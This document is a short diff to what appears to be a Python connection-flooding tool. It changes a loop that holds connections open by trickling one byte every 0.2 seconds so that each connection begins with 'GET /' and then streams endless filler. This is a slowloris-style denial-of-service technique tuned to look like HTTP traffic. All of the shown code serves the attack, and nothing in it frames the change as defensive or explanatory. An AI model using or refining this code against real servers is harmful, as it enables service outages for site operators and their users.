@@ -9,6 +9,7 @@ names of some floods.
 from __future__ import annotations
 
 import asyncio
+import itertools
 import json
 import os
 import ssl
@@ -130,8 +131,9 @@ class Client:
         while True:
             with suppress(OSError):
                 _, writer = await self.connect()
+                head = itertools.chain(b"GET /", itertools.repeat(ord("a")))
                 while not writer.is_closing():
-                    writer.write(b"a")
+                    writer.write(bytes([next(head)]))
                     await asyncio.sleep(0.2)
 
 
